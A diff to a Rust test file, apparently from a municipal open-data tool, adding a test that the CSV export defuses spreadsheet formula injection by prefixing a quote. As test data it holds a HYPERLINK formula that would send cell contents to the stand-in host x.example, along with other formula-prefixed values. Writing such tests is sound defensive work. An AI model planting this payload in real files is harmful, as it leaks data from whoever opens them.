@@ -272,6 +272,50 @@ fn the_calendar_does_not_call_a_past_date_planned() {
     assert!(description("Werkstatt 2022").contains("Status: erledigt."));
 }
 
+/// Titles can come from citizens' phones and the municipality publishes the CSV: a cell that
+/// begins like a formula gets a leading ' so no spreadsheet opening the file runs it; other
+/// text and the amounts stay as they are.
+#[test]
+fn the_open_data_csv_holds_no_cell_a_spreadsheet_would_run() {
+    let dir = temp();
+    let mut s = open(&demo(dir.path()));
+    let injected = "=HYPERLINK(\"http://x.example/?\"&A1;\"Klick\")";
+    run_json(
+        &mut s,
+        &json!({"measures": {"save_measure": {
+            "title": injected, "description": "- Punkt eins\n- Punkt zwei", "goal": "@SUM(1+1)",
+            "lead": "+49 Bürgeramt", "cost_once_cents": 1_250_000
+        }}})
+        .to_string(),
+    )
+    .unwrap();
+    let folder = dir.path().join("open-data");
+    export(&mut s, ExportFormat::Opendata, &folder);
+    let mut csv = csv::Reader::from_path(folder.join("massnahmen.csv")).unwrap();
+    let header: Vec<String> = csv.headers().unwrap().iter().map(str::to_owned).collect();
+    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let records: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
+    let row = records
+        .iter()
+        .find(|r| r[at("titel")].contains("HYPERLINK"))
+        .expect("the measure is in the CSV");
+    assert_eq!(&row[at("titel")], format!("'{injected}"));
+    assert_eq!(&row[at("beschreibung")], "'- Punkt eins\n- Punkt zwei");
+    assert_eq!(&row[at("ziel")], "'@SUM(1+1)");
+    assert_eq!(&row[at("federfuehrung")], "'+49 Bürgeramt");
+    assert_eq!(&row[at("kosten_einmalig_eur")], "12500.00");
+    for record in &records {
+        for cell in record {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell}"
+            );
+        }
+    }
+    let readme = std::fs::read_to_string(folder.join("LIESMICH.txt")).unwrap();
+    assert!(readme.contains("vorangestelltem '"), "{readme}");
+}
+
 #[test]
 fn the_open_data_package_has_a_documented_csv_and_dcat_ap_de_metadata() {
     let dir = temp();
@@ -294,7 +338,7 @@ fn the_open_data_package_has_a_documented_csv_and_dcat_ap_de_metadata() {
     let at = |name: &str| header.iter().position(|h| h == name).unwrap();
     for (rec, m) in records.iter().zip(&view.measures) {
         assert_eq!(&rec[at("nummer")], m.measure.number);
-        assert_eq!(&rec[at("titel")], m.measure.title);
+        assert_eq!(rec[at("titel")].trim_start_matches('\''), m.measure.title);
         match m.measure.cost_once_cents {
             Some(c) => assert_eq!(
                 rec[at("kosten_einmalig_eur")].parse::<f64>().unwrap(),
